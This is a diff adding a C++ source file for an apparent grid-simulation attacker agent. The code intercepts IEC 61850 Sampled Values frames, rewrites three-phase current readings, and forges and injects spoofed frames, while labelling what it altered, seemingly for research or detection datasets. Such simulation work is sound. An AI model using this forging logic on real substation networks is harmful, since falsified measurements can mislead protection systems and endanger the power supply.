@@ -1,0 +1,150 @@
+// SPDX-FileCopyrightText: 2026 Gridspace contributors
+// SPDX-License-Identifier: Apache-2.0
+#include "agents/attacker/sv_forger.hpp"
+
+#include <algorithm>
+#include <cmath>
+#include <fmt/format.h>
+
+namespace gridspace::attacker {
+
+std::vector<std::string> phase_channels(streams::Stream const& stream) {
+    std::vector<std::string> out;
+    for (iec61850::Leaf const& leaf : iec61850::leaves_of(stream.data_set)) {
+        if (iec61850::is_number(leaf.type) && out.size() < 3) {
+            out.push_back(leaf.name);
+        }
+    }
+    return out;
+}
+
+Result<std::unique_ptr<SvForger>> SvForger::create(streams::Stream const& stream, AttackConfig const& config,
+                                                   double frequency_hz, std::uint64_t seed) {
+    std::vector<std::string> const phases = phase_channels(stream);
+    if (phases.size() != 3) {
+        return fail(ExitCode::usage,
+                    fmt::format("attack '{}': stream '{}' has {} numbers, and three currents are attacked",
+                                config.name.name, stream.name.name, phases.size()));
+    }
+    auto attack = make_sample_attack(config, phases, stream.rate_hz.to_double(), frequency_hz, seed);
+    if (!attack) {
+        return std::unexpected{attack.error()};
+    }
+    auto frame = stream.sv_template({});
+    if (!frame) {
+        return std::unexpected{frame.error()};
+    }
+    auto out = std::unique_ptr<SvForger>{new SvForger{stream, config, std::move(*attack), std::move(*frame)}};
+    for (std::size_t p = 0; p < 3; ++p) {
+        out->slots_[p] = *out->layout_.index_of(phases[p]);
+        out->scales_[p] =
+            iec61850::is_integer(out->layout_.slots()[out->slots_[p]].leaf.type) ? 1e-3 : 1.0; // milliamperes
+    }
+    return out;
+}
+
+SvForger::SvForger(streams::Stream const& stream, AttackConfig const& config, SampleAttack attack,
+                   iec61850::SvTemplate frame)
+    : sv_id_{stream.sv_id}, layout_{stream.data_set}, rate_hz_{stream.rate_hz.to_double()}, anticipation_{attack},
+      attack_{std::move(attack)}, template_{std::move(frame)}, spoof_{config.spoof} {
+    buffer_.reserve(2048);
+    last_sample_.resize(layout_.sample_octets());
+}
+
+bool SvForger::is_target(iec61850::Octets frame) {
+    if (!iec61850::decode_sv(frame, decoded_)) {
+        return false;
+    }
+    auto const asdus = decoded_.view();
+    return !asdus.empty() && std::all_of(asdus.begin(), asdus.end(), [&](iec61850::Asdu const& a) {
+        return a.sv_id == sv_id_ && a.sample.size() == layout_.sample_octets();
+    });
+}
+
+Abc SvForger::read(iec61850::Octets sample) const {
+    Abc out;
+    for (std::size_t p = 0; p < 3; ++p) {
+        out[p] = layout_.read(slots_[p], sample).number() * scales_[p];
+    }
+    return out;
+}
+
+double SvForger::write(std::size_t phase, double value_a, std::span<std::uint8_t> sample) const {
+    auto const type = layout_.slots()[slots_[phase]].leaf.type;
+    auto const value = iec61850::Value::from_number(type, value_a / scales_[phase]);
+    layout_.write(slots_[phase], value, sample);
+    return value.number() * scales_[phase];
+}
+
+std::int64_t SvForger::index_of(std::uint16_t smp_cnt, std::int64_t time_ns) const {
+    double const second = static_cast<double>(time_ns) / 1e9 - static_cast<double>(smp_cnt) / rate_hz_;
+    return std::llround(std::round(second) * rate_hz_) + smp_cnt;
+}
+
+void SvForger::pass(iec61850::Octets frame, std::int64_t time_ns, Emit const& emit, Tell const& tell) {
+    if (time_ns < 0 || !is_target(frame)) {
+        emit(frame);
+        return;
+    }
+    buffer_.assign(frame.begin(), frame.end());
+    bool altered = false;
+    for (iec61850::Asdu const& asdu : decoded_.view()) {
+        std::int64_t const index = index_of(asdu.smp_cnt, time_ns);
+        Abc const true_a = read(asdu.sample);
+        SampleAttack::Outcome outcome = attack_.apply(index, true_a);
+        std::span<std::uint8_t> const sample{buffer_.data() + (asdu.sample.data() - frame.data()), asdu.sample.size()};
+        for (std::size_t p = 0; p < 3; ++p) {
+            if ((outcome.altered & (1U << p)) != 0) {
+                outcome.sent_a[p] = write(p, outcome.sent_a[p], sample);
+            }
+        }
+        labels_of(index, true_a, outcome, tell);
+        altered = altered || outcome.altered != 0;
+    }
+    forged_ += altered ? 1U : 0U;
+    emit(buffer_);
+}
+
+void SvForger::hear(iec61850::Octets frame, std::int64_t time_ns, Emit const& emit, Tell const& tell) {
+    if (time_ns < 0 || !is_target(frame)) {
+        return;
+    }
+    for (iec61850::Asdu const& asdu : decoded_.view()) {
+        anticipation_.real(index_of(asdu.smp_cnt, time_ns), read(asdu.sample), tell);
+        std::copy(asdu.sample.begin(), asdu.sample.end(), last_sample_.begin());
+    }
+    if (spoof_) {
+        template_.set_source(decoded_.header.source);
+    }
+    forge_next(emit);
+}
+
+void SvForger::forge_next(Emit const& emit) {
+    bool altered = false;
+    std::array<Anticipation::Forged, iec61850::SvTemplate::kMaxAsdusSent> all{};
+    for (std::size_t i = 0; i < template_.asdus(); ++i) {
+        auto const forged = anticipation_.next();
+        if (!forged) {
+            return;
+        }
+        all[i] = *forged;
+        altered = altered || forged->altered != 0;
+        std::span<std::uint8_t> const sample = template_.sample(i);
+        std::copy(last_sample_.begin(), last_sample_.end(),
+                  sample.begin()); // quality and all else as the real one has it
+        for (std::size_t p = 0; p < 3; ++p) {
+            all[i].sent_a[p] = write(p, forged->sent_a[p], sample);
+        }
+        template_.set_smp_cnt(i, static_cast<std::uint16_t>(forged->index % std::llround(rate_hz_)));
+    }
+    if (!altered) {
+        return;
+    }
+    for (std::size_t i = 0; i < template_.asdus(); ++i) {
+        anticipation_.sent(all[i]);
+    }
+    ++forged_;
+    emit(template_.frame());
+}
+
+} // namespace gridspace::attacker
